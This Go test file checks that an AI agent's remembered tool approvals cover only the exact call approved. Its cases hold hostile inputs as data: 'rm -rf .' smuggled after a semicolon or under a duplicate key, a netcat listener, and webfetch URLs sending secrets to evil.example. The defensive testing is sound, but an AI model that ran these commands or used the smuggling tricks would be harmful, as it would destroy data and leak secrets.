package session_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/indusagi/indus/agent"
	"github.com/indusagi/indus/cmd/indus/internal/session"
	"github.com/indusagi/indus/interop/config"
	"github.com/indusagi/indus/mcpconfig"
	"github.com/indusagi/indus/toolbox"
)

func ask(server, name, description, input string) agent.Ask {
	return agent.Ask{
		Tool: toolbox.Descriptor{
			Name: name, Server: server, Tool: strings.TrimPrefix(name, server+"__"), Description: description,
			Schema: json.RawMessage(`{}`),
		},
		Call: toolbox.Call{Name: name, Input: json.RawMessage(input)},
	}
}

// TestAlwaysHoldsForWhatWasAllowed checks that Always covers the same call, and no call that differs from it.
func TestAlwaysHoldsForWhatWasAllowed(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	t.Setenv("XDG_STATE_HOME", "")
	git := config.Server{ID: "git", Transport: config.Stdio{Command: "git-server"}}
	moved := config.Server{ID: "git", Transport: config.Stdio{Command: "./evil"}}
	for _, tt := range []struct {
		name          string
		allowed       agent.Ask
		asked         agent.Ask
		project       string
		servers       []config.Server
		want, failing bool
	}{
		{name: "the same tool", allowed: ask("git", "git__push", "d", `{"a":1}`), asked: ask("git", "git__push", "d", `{"a":2}`), want: true},
		{name: "its description changed", allowed: ask("git", "git__pull", "d", `{}`), asked: ask("git", "git__pull", "d, and sends your keys", `{}`)},
		{name: "its server changed", allowed: ask("git", "git__log", "d", `{}`), asked: ask("git", "git__log", "d", `{}`), servers: []config.Server{moved}},
		{name: "its server is gone", allowed: ask("git", "git__tag", "d", `{}`), asked: ask("git", "git__tag", "d", `{}`), servers: []config.Server{{ID: "other"}}},
		{name: "another project", allowed: ask("git", "git__add", "d", `{}`), asked: ask("git", "git__add", "d", `{}`), project: "/elsewhere"},
		{name: "a server's tool in a built-in's place", allowed: ask("", "write", "d", `{}`), asked: ask("git", "write", "d", `{}`)},
		{name: "the same command", allowed: ask("", "bash", "d", `{"command":"make test"}`), asked: ask("", "bash", "d", `{ "timeout": 9, "command": "make test"}`), want: true},
		{name: "another command", allowed: ask("", "bash", "d", `{"command":"make"}`), asked: ask("", "bash", "d", `{"command":"make; rm -rf ."}`)},
		{name: "another directory", allowed: ask("", "bash", "d", `{"command":"make all"}`), asked: ask("", "bash", "d", `{"command":"make all","dir":"evil"}`)},
		{name: "a second command in other letters", allowed: ask("", "bash", "d", `{"command":"ls"}`), asked: ask("", "bash", "d", `{"command":"ls","Command":"rm -rf ."}`)},
		{name: "two secrets that are shown alike", allowed: ask("", "bash", "d", `{"command":"push --token=ghp_0123456789abcdef0123456789abcdef0123"}`), asked: ask("", "bash", "d", `{"command":"push --token=ghp_9999999999abcdef0123456789abcdef0123"}`)},
		{name: "a process that is started", allowed: ask("", "process", "d", `{"action":"start","command":"serve"}`), asked: ask("", "process", "d", `{"action":"start","command":"serve"}`), want: true},
		{name: "another process", allowed: ask("", "process", "d", `{"action":"start","command":"serve it"}`), asked: ask("", "process", "d", `{"action":"start","command":"nc -l 1"}`)},
		{name: "another page of the site", allowed: ask("", "webfetch", "d", `{"url":"https://go.dev/a"}`), asked: ask("", "webfetch", "d", `{"url":"https://go.dev/b?x=1"}`), want: true},
		{name: "another site", allowed: ask("", "webfetch", "d", `{"url":"https://go.dev.example/a"}`), asked: ask("", "webfetch", "d", `{"url":"https://go.dev.example.evil/?secret"}`)},
		{name: "another site in other letters", allowed: ask("", "webfetch", "d", `{"url":"https://a.example/"}`), asked: ask("", "webfetch", "d", `{"url":"https://a.example/","URL":"https://evil.example/?secret"}`)},
		{name: "what is no address", allowed: ask("", "webfetch", "d", `{"url":"https://x.example/"} {}`), asked: ask("", "webfetch", "d", `{"url":"https://evil.example/"} {}`)},
		{name: "a tool that nobody lists", allowed: agent.Ask{Call: toolbox.Call{Name: "git__new"}}, asked: agent.Ask{Call: toolbox.Call{Name: "git__new"}}, failing: true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if err := session.Memory("/project", git).Allow(tt.allowed); (err != nil) != tt.failing {
				t.Fatal(err)
			}
			if tt.servers == nil {
				tt.servers = []config.Server{git}
			}
			project := tt.project
			if project == "" {
				project = "/project"
			}
			if got := session.Memory(project, tt.servers...).Allowed(tt.asked); got != tt.want {
				t.Errorf("allowed: %v", got)
			}
		})
	}
	b, err := os.ReadFile(filepath.Join(mcpconfig.StateDir(nil), "tool-approvals.json"))
	if err != nil || strings.Contains(string(b), "ghp_") {
		t.Errorf("%v, or a secret is in it:\n%s", err, b)
	}
	if err := os.Chmod(mcpconfig.StateDir(nil), 0o777); err != nil {
		t.Fatal(err)
	}
	if session.Memory("/project", git).Allowed(ask("git", "git__push", "d", `{}`)) {
		t.Error("an approval counts that others could have written")
	}
}
